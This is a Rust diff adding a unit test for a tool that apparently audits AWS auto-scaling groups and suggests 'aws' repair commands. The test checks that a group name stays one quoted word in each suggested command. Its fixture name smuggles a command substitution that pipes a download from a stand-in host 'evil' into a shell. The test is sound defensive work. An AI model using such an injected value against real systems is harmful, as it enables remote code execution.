@@ -412,6 +412,32 @@ fn a_group_of_one_size_alone_has_no_way_back() {
 }
 
 #[test]
+fn a_groups_name_is_one_word_in_every_command() {
+    const NAME: &str = "x$(curl -s evil|sh) 'y'";
+    let hostile = Group {
+        name: NAME.to_owned(),
+        sizes: (3, 3, 3),
+        suspended: vec!["Launch".to_owned(), "Terminate".to_owned()],
+        ..group()
+    };
+    let seen = Installation {
+        groups: Seen::Found(vec![hostile]),
+        ..healthy()
+    };
+    let findings = wrong(&seen, inside());
+    let commands: Vec<&str> = findings
+        .iter()
+        .filter_map(|finding| finding.mend.as_deref())
+        .filter(|mend| mend.starts_with("aws "))
+        .collect();
+    assert_eq!(commands.len(), 3, "{findings:#?}");
+    for command in commands {
+        let words = shlex::split(command).unwrap();
+        assert!(words.iter().any(|word| word == NAME), "{command}");
+    }
+}
+
+#[test]
 fn whatever_is_wrong_with_a_group_is_the_only_finding() {
     type Break = fn(&mut Group);
     fn with_hook(group: &mut Group, change: fn(&mut Hook)) {
